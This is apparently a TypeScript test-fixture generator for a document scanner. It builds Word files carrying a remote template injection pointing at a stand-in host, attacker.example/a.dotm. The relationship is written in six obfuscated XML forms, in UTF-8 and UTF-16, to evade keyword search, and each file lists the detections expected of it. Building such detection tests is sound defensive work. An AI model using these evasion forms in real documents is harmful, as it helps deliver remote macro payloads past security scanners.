import { encoded } from '../../bytes/text-bytes.js';
import type { HostileKind } from '../../hostile-kind.js';
import { packed, WORD } from '../../twins/office.js';
import { DECLARATION, withPart } from '../../twins/parts.js';

const NAMESPACE = 'http://schemas.openxmlformats.org/package/2006/relationships';
const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
const TARGET = 'http://attacker.example/a.dotm';

/** The same relation in ways that mean the same to a reader of XML, and nothing to one who looks for words. */
const WRITINGS: readonly string[] = [
  `<Relationships xmlns="${NAMESPACE}"><Relationship TargetMode='External' Target='${TARGET}' Type='${TEMPLATE}' Id='rId1'/></Relationships>`,
  `<p:Relationships xmlns:p="${NAMESPACE}"><p:Relationship Id="rId1" Type="${TEMPLATE}" Target="${TARGET}" TargetMode="External"/></p:Relationships>`,
  `<Relationships xmlns="${NAMESPACE}"><Relationship Id="rId1" Type="${TEMPLATE}" Target="${TARGET}" TargetMode="Exter&#110;al"/></Relationships>`,
  `<Relationships xmlns="${NAMESPACE}"><Relationship\n\tId = "rId1"\n\tType = "${TEMPLATE}"\n\tTarget = "${TARGET}"\n\tTargetMode\n=\n"External" ></Relationship></Relationships>`,
  `<Relationships xmlns="${NAMESPACE}"><Relationship Id="rId1" Type="${TEMPLATE.replaceAll('e', '&#x65;')}" Target="${TARGET.replaceAll('t', '&#116;')}" TargetMode="External"/></Relationships>`,
  `<Relationships xmlns="${NAMESPACE}"><!-- <Relationship --><Relationship Id="rId1" Type="${TEMPLATE}" Target="${TARGET}" TargetMode="External"/></Relationships>`,
];

/** Template injection that a search for words does not find. */
export const DISGUISED_RELATION: HostileKind = {
  kind: 'disguised-relation',
  what: 'A remote template whose relation is written with prefixes, character references, other quotes, or in UTF-16.',
  source: 'MITRE ATT&CK T1221, T1027; ECMA-376-2',
  *files(sender) {
    for (const writing of WRITINGS) {
      for (const encoding of ['utf-8', 'utf-16le'] as const) {
        const { number, name } = sender.letter('docx');
        yield {
          name,
          expected: encoding === 'utf-8' ? ['external-content'] : ['external-content', 'damaged'],
          content: () => {
            const text = `${DECLARATION.replace('UTF-8', encoding === 'utf-8' ? 'UTF-8' : 'UTF-16')}${writing}`;
            return packed(withPart(WORD.parts(number), 'word/_rels/settings.xml.rels', encoded(text, encoding)));
          },
        };
      }
    }
  },
};
